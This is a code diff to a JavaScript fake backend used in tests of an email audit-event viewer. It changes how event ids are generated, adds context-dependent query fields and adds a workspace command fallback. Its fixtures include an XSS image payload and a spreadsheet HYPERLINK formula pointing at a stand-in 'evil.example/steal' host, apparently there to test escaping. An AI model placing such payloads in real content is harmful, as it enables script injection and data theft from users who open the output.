@@ -1,6 +1,8 @@
 // An in-test stand-in for the Rust side: same commands, same shapes (see src/lib/bindings.ts),
 // deterministic generated events, a toy query parser, and keyset pagination.
 
+import { workspaceCommand } from "./fake-workspace.mjs";
+
 export const XSS_IMG = "<img src=x onerror=alert(1)>";
 export const XSS_FORMULA = '=HYPERLINK("http://evil.example/steal","Click to view")';
 
@@ -85,7 +87,10 @@ export function generateEvents(n, { seed = 42, startMs = Date.UTC(2025, 11, 1, 8
     const [action, operation] = a;
     const actor = pick(rnd, ACTORS);
     const ip = pick(rnd, IPS);
-    const id = (idBase + BigInt(i) * 7919n + BigInt(Math.floor(rnd() * 1000))).toString();
+    void rnd(); // (was an id offset; kept so the sequence of random values is unchanged)
+    // Ids are real time keys, as the engine makes them: ((ms − 2000-01-01) << 20) | sequence.
+    const seq = BigInt(i) + ((idBase - BASE_ID) / BASE_ID) * 300_000n;
+    const id = (((BigInt(t) - 946_684_800_000n) << 20n) | seq).toString();
     const subject = ["read", "send", "reply", "forward", "delete", "move", "delivery", "attachment"].includes(action) ? pick(rnd, SUBJECTS) : null;
     const row = {
       id,
@@ -183,7 +188,7 @@ function tokenize(q) {
   return out;
 }
 
-function termPredicate(tok) {
+function termPredicate(tok, ctx) {
   let neg = false;
   if (tok.startsWith("-") && tok.length > 1) {
     neg = true;
@@ -199,6 +204,8 @@ function termPredicate(tok) {
       const ms = Date.parse(value.length <= 10 ? value + "T00:00:00Z" : value.endsWith("z") ? value : value + "Z");
       if (Number.isNaN(ms)) throw new QueryError(`“${m[2]}” is not a date. Write dates like 2024-01-01 or 2024-01-02T10:00.`);
       pred = field === "after" ? (r) => r.time_ms >= ms : (r) => r.time_ms < ms;
+    } else if (ctx?.fields?.[field]) {
+      pred = ctx.fields[field](value);
     } else if (FIELDS[field]) {
       pred = (r) => FIELDS[field](r).some((v) => v != null && v.toLowerCase().includes(value));
     } else {
@@ -211,7 +218,8 @@ function termPredicate(tok) {
   return neg ? (r) => !pred(r) : pred;
 }
 
-export function parseQuery(q) {
+/** `ctx.fields` adds fields that need the case's state (tag:, is:, has:, workload:): name → value → predicate. */
+export function parseQuery(q, ctx) {
   const toks = tokenize(q);
   const groups = []; // AND of ORs
   for (let i = 0; i < toks.length; i++) {
@@ -219,8 +227,8 @@ export function parseQuery(q) {
     if (t === "OR") {
       if (groups.length === 0 || i === toks.length - 1) throw new QueryError("OR needs a term on both sides, for example action:forward OR action:rule.");
       const next = toks[++i];
-      groups[groups.length - 1].push(termPredicate(next));
-    } else groups.push([termPredicate(t)]);
+      groups[groups.length - 1].push(termPredicate(next, ctx));
+    } else groups.push([termPredicate(t, ctx)]);
   }
   return (r) => groups.every((g) => g.some((p) => p(r)));
 }
@@ -289,7 +297,7 @@ export class FakeBackend {
     const key = `${this.current?.path}\u0000${query}\u0000${sort}`;
     let rows = this.sortedCache.get(key);
     if (!rows) {
-      const pred = parseQuery(query);
+      const pred = parseQuery(query, this.queryContext?.());
       rows = this.current.events.map((e) => e.row).filter(pred).sort(cmpAsc);
       if (sort === "desc") rows.reverse();
       this.sortedCache.set(key, rows);
@@ -523,8 +531,11 @@ export class FakeBackend {
         return { ok: typeof this.dialogOpen === "function" ? this.dialogOpen(args) : this.dialogOpen };
       case "plugin:dialog|save":
         return { ok: typeof this.dialogSave === "function" ? this.dialogSave(args) : this.dialogSave };
-      default:
+      default: {
+        const ws = await workspaceCommand(this, cmd, args);
+        if (ws !== undefined) return ws;
         return this.err("internal", `The fake backend does not know the command ${cmd}.`, null);
+      }
     }
   }
 }
